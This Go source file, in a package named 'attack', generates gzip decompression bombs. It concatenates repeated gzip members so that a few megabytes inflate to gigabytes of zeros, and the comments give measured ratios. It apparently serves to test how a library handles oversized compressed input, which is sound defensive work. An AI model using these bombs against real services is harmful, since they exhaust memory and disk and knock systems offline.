package attack

import (
	"bytes"
	"compress/gzip"
)

// bombChunk is how many zeros GzipBomb hands the compressor per Write.
const bombChunk = 64 << 10

// bombRatio is the inflation ratio of zeros under deflate at
// BestCompression, measured: 2 GiB of zeros compress to 2,087,220 bytes
// (1028.87:1); 64 MiB to 65,252 bytes (1028.46:1). Deflate's ceiling is
// 1032:1 (a 258-byte match costs about 2 bits).
const bombRatio = 1028

// bombMember is the inflated size of each gzip member of a large bomb.
const bombMember = 64 << 20

// GzipBomb returns a gzip stream that inflates to exactly inflated zero
// bytes (none if inflated <= 0), about inflated/1028 bytes long. A bomb
// larger than 64 MiB is that many 64 MiB members back to back (RFC 1952
// allows several members in one stream, and Go's gzip.Reader, like
// connect's, reads them as one): the first member is compressed once
// (about 0.2 s) and copied, so a 5 GB bomb takes milliseconds to build,
// not the 13 s of compressing 5 GB of zeros. The returned slice belongs to
// the caller.
func GzipBomb(inflated int64) []byte {
	if inflated <= bombMember {
		return gzipZeros(inflated)
	}
	member := gzipZeros(bombMember)
	n := inflated / bombMember
	tail := gzipZeros(inflated % bombMember)
	out := make([]byte, 0, int(n)*len(member)+len(tail))
	for i := int64(0); i < n; i++ {
		out = append(out, member...)
	}
	if inflated%bombMember != 0 {
		out = append(out, tail...)
	}
	return out
}

// gzipZeros compresses n zeros into one gzip member, feeding them to the
// compressor in 64 KiB chunks.
func gzipZeros(n int64) []byte {
	var out bytes.Buffer
	out.Grow(int(n/bombRatio) + 1024)
	zw, err := gzip.NewWriterLevel(&out, gzip.BestCompression)
	if err != nil {
		panic(err) // BestCompression is a valid level; unreachable
	}
	zeros := make([]byte, bombChunk)
	for left := n; left > 0; {
		k := min(left, int64(len(zeros)))
		// Writes to a bytes.Buffer cannot fail.
		_, _ = zw.Write(zeros[:k])
		left -= k
	}
	_ = zw.Close()
	return out.Bytes()
}

// GzipBombOfSize returns a gzip stream of about compressed bytes (within
// a few percent) that inflates to about 1028 times that many zero bytes:
// 5 MB inflates to about 5 GB. Use
// GzipBomb when the inflated size must be exact.
func GzipBombOfSize(compressed int) []byte {
	if compressed <= 0 {
		return GzipBomb(0)
	}
	return GzipBomb(int64(compressed) * bombRatio)
}
